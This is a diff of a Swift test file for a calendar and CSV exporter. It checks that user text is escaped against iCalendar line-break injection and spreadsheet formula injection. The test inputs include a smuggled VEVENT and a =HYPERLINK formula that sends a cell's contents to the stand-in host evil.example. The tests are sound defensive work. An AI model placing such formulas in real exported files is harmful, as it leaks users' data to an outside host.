@@ -8,7 +8,7 @@ struct OpenDataInjectionTests {
         ("Мера\r\nBEGIN:VEVENT\r\nSUMMARY:Чужое", "Мера\\nBEGIN:VEVENT\\nSUMMARY:Чужое"),
         ("Мера\rКонец", "Мера\\nКонец"),
         ("a;b,c\\d", "a\\;b\\,c\\\\d"),
-        ("Табуляция\tи\u{7}звонок", "Табуляция изв" + "онок"),
+        ("Табуляция\tи\u{7}звонок", "Табуляция изв" + "онок")
     ])
     func calendarTextHasNoRawLineBreak(text: String, expected: String) {
         let escaped = CalendarWriter.escape(text)
@@ -17,9 +17,12 @@ struct OpenDataInjectionTests {
     }
 
     @Test(arguments: [
-        ("=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Нажмите\")", "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Нажмите\"\")\""),
+        (
+            "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Нажмите\")",
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1;\"\"Нажмите\"\")\""
+        ),
         ("+7 (999) 000", "'+7 (999) 000"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
-        ("1.1", "1.1"), ("Анкетирование", "Анкетирование"),
+        ("1.1", "1.1"), ("Анкетирование", "Анкетирование")
     ])
     func tableCellsAreNeverFormulas(text: String, expected: String) {
         #expect(MeasuresCSV.field(text) == expected)
